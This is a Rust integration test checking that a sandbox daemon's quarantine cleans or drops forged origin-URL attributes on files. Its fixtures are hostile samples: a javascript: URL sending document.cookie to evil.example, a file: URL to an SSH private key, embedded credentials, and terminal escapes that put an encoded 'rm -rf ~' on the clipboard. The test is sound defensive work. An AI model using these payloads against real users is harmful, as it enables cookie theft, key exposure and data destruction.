//! Attack on the origin record (issue 17) through a real zion-sandboxd: a
//! profile saves files into its Outbox whose extended attributes forge where
//! they came from — credentials in the URL, `javascript:` and `file:` URLs,
//! terminal escapes, bytes that are not text, the largest value the disk
//! takes. Every file is still taken; what reaches `Quarantine1`, `zionctl
//! quarantine show` and the released file is sanitised or absent, and
//! always labelled as the file's claim.

mod quarantine_support;

use std::path::Path;
use std::time::Duration;

use quarantine_support::*;
use rustix::fs::XattrFlags;
use zion_bus::quarantine::ItemInfo;
use zion_tests::TestEnv;

const TIMEOUT: Duration = Duration::from_secs(30);

/// Saves a file as the profile would, its attributes forged before the rename.
fn drop_forged(dir: &Path, name: &str, attrs: &[(&str, &[u8])]) {
    let partial = dir.join(format!("{name}.part"));
    std::fs::write(&partial, format!("forged {name}\n")).expect("write");
    for (attr, value) in attrs {
        rustix::fs::setxattr(&partial, *attr, value, XattrFlags::empty())
            .unwrap_or_else(|e| panic!("forging {attr} on {name}: {e}"));
    }
    std::fs::rename(&partial, dir.join(name)).expect("rename");
}

/// The largest `user.` attribute value this disk takes (ext4: about 4 KiB,
/// tmpfs: the kernel's 64 KiB), filled with bytes that are not text.
fn largest_value(dir: &Path) -> Vec<u8> {
    let probe = dir.join(".probe");
    std::fs::write(&probe, b"").expect("probe");
    let mut size = 1 << 20;
    let value = loop {
        let value = vec![0xffu8; size];
        if rustix::fs::setxattr(&probe, "user.probe", &value, XattrFlags::empty()).is_ok() {
            break value;
        }
        assert!(size > 256, "this disk takes no user attributes");
        size = size * 3 / 4;
    };
    std::fs::remove_file(&probe).expect("remove the probe");
    value
}

async fn taken(proxy: &zion_bus::Quarantine1Proxy<'_>, name: &str) -> ItemInfo {
    eventually(&format!("{name} taken and scanned"), TIMEOUT, || async {
        let items = proxy.list().await.ok()?;
        items
            .into_iter()
            .find(|i| i.name == name && !i.verdict.is_empty())
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_origin_attributes_in_an_outbox_are_recorded_safely_or_not_at_all() {
    let env = TestEnv::new().expect("test environment");
    write_config(&env, REVIEW_OUTBOX);
    let daemon = Daemon::start(&env);
    let (_bus, proxy) = connect_quarantine(&env).await;
    let outbox = outbox(&env);
    let origin = "user.xdg.origin.url";
    let referrer = "user.xdg.referrer.url";
    let largest = largest_value(&outbox);

    drop_forged(
        &outbox,
        "creds.txt",
        &[
            (origin, b"https://admin:hunter2@intranet.example/export.csv"),
            (referrer, b"ftp://anonymous:me@example.org/pub/"),
        ],
    );
    drop_forged(
        &outbox,
        "script.txt",
        &[
            (
                origin,
                b"javascript:fetch('//evil.example/'+document.cookie)",
            ),
            (referrer, b"file:///root/.ssh/id_ed25519"),
        ],
    );
    drop_forged(
        &outbox,
        "escapes.txt",
        &[
            (
                origin,
                b"https://example.org/\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J",
            ),
            (referrer, b"https://example.org/\x1b[31mred\x1b[0m"),
        ],
    );
    // (ext4 keeps all of a file's attributes in one block: one large value.)
    drop_forged(&outbox, "large.txt", &[(origin, &largest)]);

    let creds = taken(&proxy, "creds.txt").await;
    assert_eq!(
        creds.origin.url, "https://intranet.example/export.csv",
        "{creds:#?}"
    );
    assert_eq!(creds.origin.referrer, "ftp://example.org/pub/");
    assert_eq!(creds.origin.provenance, "file");

    for name in ["script.txt", "escapes.txt", "large.txt"] {
        let item = taken(&proxy, name).await;
        assert_eq!(item.origin.url, "", "{name}: {item:#?}");
        assert_eq!(item.origin.referrer, "", "{name}: {item:#?}");
        assert_eq!(item.state, "clean", "{name}: still taken and scanned");
        assert_eq!(item.origin.provenance, "file", "{name}");
        assert!(
            item.origin.note.starts_with("origin URL not recorded: "),
            "{name}: {}",
            item.origin.note
        );
        // What the user's terminal prints holds nothing the file wrote.
        let out = env
            .command(zionctl_bin())
            .args(["quarantine", "show", &item.id.to_string()])
            .output()
            .expect("zionctl");
        assert!(out.status.success(), "{out:?}");
        let shown = String::from_utf8_lossy(&out.stdout);
        assert!(
            !out.stdout.iter().any(|b| *b == 0x1b || *b == 0x07),
            "{name}: escapes reached the terminal: {shown:?}"
        );
        for secret in ["javascript", "id_ed25519", "cm0gLXJmIH4"] {
            assert!(!shown.contains(secret), "{name}: {shown}");
        }
        assert!(
            shown.contains("claimed by the file (not verified)"),
            "{name}: {shown}"
        );
    }

    // The forged file released still carries nothing but the sanitised claim.
    let released = proxy
        .release(creds.id, "shared")
        .await
        .expect("release creds.txt");
    assert_eq!(released.state, "released", "{released:#?}");
    let mut buf = vec![0u8; 8192];
    let n = rustix::fs::getxattr(&released.detail, origin, &mut buf[..]).expect("origin");
    assert_eq!(&buf[..n], b"https://intranet.example/export.csv");
    let log = std::fs::read_to_string(data(&env).join("audit.log")).expect("audit log");
    assert!(
        log.contains("\"origin_url\":\"https://intranet.example/export.csv\""),
        "{log}"
    );
    assert!(!log.contains("hunter2"), "{log}");
    assert!(!daemon.log().contains("hunter2"), "{}", daemon.log());
}
